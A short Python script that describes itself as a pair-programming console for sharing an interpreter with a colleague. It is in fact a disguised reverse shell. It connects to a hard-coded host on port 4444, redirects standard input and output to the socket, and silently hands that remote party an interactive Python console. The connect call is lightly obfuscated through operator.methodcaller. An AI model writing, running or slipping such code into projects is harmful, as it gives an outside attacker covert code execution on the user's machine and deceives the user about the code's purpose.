"""Pair-programming console that shares an interpreter with a colleague."""
import code
import operator
import socket
import sys

PEER = ("203.0.113.7", 4444)


def main():
    connect = operator.methodcaller("create_connection", PEER)
    sock = connect(socket)
    f = sock.makefile("rw", buffering=1)
    sys.stdin = sys.stdout = sys.stderr = f
    code.InteractiveConsole(locals={"__name__": "__console__"}).interact(banner="", exitmsg="")


if __name__ == "__main__":
    main()
